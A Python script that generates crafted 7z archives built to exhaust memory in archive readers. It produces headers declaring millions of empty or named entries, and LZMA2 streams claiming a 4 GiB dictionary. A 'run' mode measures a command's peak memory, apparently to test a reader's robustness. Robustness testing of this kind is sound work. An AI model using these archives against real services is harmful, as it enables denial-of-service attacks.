#!/usr/bin/env python3
"""Makes 7z archives that cost a careless reader memory: hostile_7z.py entries|names|dictionary FILE [SIZE].

entries: a few kilobytes, whose header has millions of entries without a stream.
names: the same, with a name for each.
dictionary: SIZE zeros (a multiple of 1 MiB) as a.map, with a dictionary of 4 GiB.

hostile_7z.py run COMMAND...: runs it, and prints the most memory that it used, in MB, as the last line."""
import lzma
import resource
import struct
import subprocess
import sys
import zlib

CHUNK = 1 << 20  # what a chunk of LZMA2 unpacks to; 2 MiB are the most


def number(v):
    """A number of the header, always in the long form."""
    return b"\xff" + struct.pack("<Q", v)


def container(packed, header):
    start = struct.pack("<QQL", len(packed), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<L", zlib.crc32(start)) + start + packed + header


def pack_info(at, size):
    return b"\x06" + number(at) + number(1) + b"\x09" + number(size) + b"\0"


def unpack_info(coder, size):
    return b"\x07\x0b\1\0\1" + coder + b"\x0c" + number(size) + b"\0"


def entries(names):
    count = 20000000 if names else 8000000
    empty = b"\xff" * ((count + 7) // 8)
    header = b"\1\5" + number(count) + b"\x0e" + number(len(empty)) + empty
    if names:
        header += b"\x11" + number(1 + 2 * count) + b"\0" * (1 + 2 * count)
    header += b"\0\0"
    dictionary = 1 << 20
    coder = [{"id": lzma.FILTER_LZMA1, "preset": 1, "dict_size": dictionary}]
    packed = lzma.compress(header, lzma.FORMAT_RAW, filters=coder)
    lzma1 = b"\x23\3\1\1\5\x5d" + struct.pack("<L", dictionary)
    return container(packed, b"\x17" + pack_info(0, len(packed)) + unpack_info(lzma1, len(header)) + b"\0")


def dictionary(size):
    """One chunk, and its copies: with a reset of the state, but not of the dictionary."""
    coder = [{"id": lzma.FILTER_LZMA2, "preset": 6, "dict_size": CHUNK}]
    first = lzma.compress(b"\0" * CHUNK, lzma.FORMAT_RAW, filters=coder)[:-1]
    assert first[0] == 0xEF and len(first) == 6 + 1 + int.from_bytes(first[3:5], "big")
    packed = first + (b"\xcf" + first[1:]) * (size // CHUNK - 1) + b"\0"
    name = "a.map".encode("utf-16-le") + b"\0\0"
    header = b"\1\4" + pack_info(0, len(packed)) + unpack_info(b"\x21\x21\1\x28", size) + b"\x08\0\0"
    header += b"\5\1\x11" + number(1 + len(name)) + b"\0" + name + b"\0\0"
    return container(packed, header)


def run(command):
    status = subprocess.run(command).returncode
    print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024)
    return status


def main():
    kind = sys.argv[1]
    if kind == "run":
        sys.exit(run(sys.argv[2:]))
    archive = dictionary(int(sys.argv[3])) if kind == "dictionary" else entries(kind == "names")
    with open(sys.argv[2], "wb") as f:
        f.write(archive)


main()
